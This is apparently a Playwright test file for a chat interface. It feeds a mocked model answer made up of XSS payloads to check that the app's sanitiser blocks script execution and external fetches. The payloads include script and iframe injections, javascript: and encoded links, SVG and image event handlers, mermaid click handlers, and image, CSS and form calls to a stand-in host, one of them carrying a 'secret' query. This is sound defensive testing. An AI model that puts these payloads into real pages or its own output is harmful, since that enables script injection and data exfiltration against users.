import { PROVIDER_MODEL } from '../support/provider-settings';
import { expect, test } from '../support/test';
import { uniqueQuestion } from '../support/words';

const HOSTILE = [
  '<script>window.owned = "script"</script>',
  '<img src=x onerror="window.owned = \'image\'">',
  '<svg onload="window.owned = \'svg\'"><circle r="9"/></svg>',
  '<iframe srcdoc="<script>parent.owned = 1</script>"></iframe>',
  '[a link](javascript:window.owned="link")',
  '[encoded](java&#115;cript&colon;window.owned="encoded")',
  '[data](data:text/html,<script>opener.owned=1</script>)',
  '<a href="javascript:window.owned=1">raw</a>',
  '![stolen](https://stranger.example/?q=secret)',
  '![stolen too](//stranger.example/pixel.png "t")',
  '$\\href{javascript:window.owned="maths"}{x}$ and $\\htmlData{a=b}{y}$ and $\\includegraphics{https://stranger.example/m.png}$',
  '```mermaid\nflowchart LR\n  A[<img src=x onerror="window.owned=1">] --> B\n  click A href "javascript:window.owned=2"\n  click B call window.alert(1)\n```',
  '```html\n<script>window.owned = "code"</script>\n```',
  '<style>body{background:url(https://stranger.example/css)}</style>',
  '<form action="https://stranger.example"><button>press</button></form>',
  'The end of it.',
].join('\n\n');

// The sanitiser parses handlers in a document of its own, where none runs; the browser reports even that.
test.use({
  expectedProblems:
    /^Executing inline event handler violates .* The action has been blocked|content policy: script-src-attr forbids inline/,
});

test('whatever a model writes, no script of it runs and nothing is fetched from other sites', async ({
  chat,
  page,
  provider,
}) => {
  const question = uniqueQuestion('Attack me');
  await provider.answer(question, HOSTILE);
  let dialogs = 0;
  page.on('dialog', (dialog) => {
    dialogs += 1;
    void dialog.dismiss();
  });
  await chat.choose(PROVIDER_MODEL);
  await chat.ask(question);
  await expect(chat.answer).toContainText('The end of it.');
  // The diagram was either drawn as a picture, or refused and shown as its source.
  await expect(
    chat.answer.getByRole('img', { name: 'Diagram' }).or(chat.answer.getByText('flowchart LR')),
  ).not.toHaveCount(0);

  for (const link of await chat.answer.getByRole('link').all()) {
    const address = await link.evaluate((element) =>
      element instanceof HTMLAnchorElement ? element.href : 'svg',
    );
    expect(address).toMatch(/^(https?|mailto):/);
  }
  await expect(chat.answer.locator('script, iframe, form, object, embed, [onerror], [onload]')).toHaveCount(
    0,
  );
  await expect(chat.answer.locator('img[src*="stranger"]')).toHaveCount(0);
  await expect(chat.answer.locator('style', { hasText: 'stranger' })).toHaveCount(0);
  for (const diagram of await chat.answer.getByRole('img', { name: 'Diagram' }).all()) await diagram.click();
  await page.reload();
  await expect(chat.answer).toContainText('The end of it.');
  expect(await page.evaluate(() => 'owned' in window)).toBe(false);
  expect(dialogs).toBe(0);
});
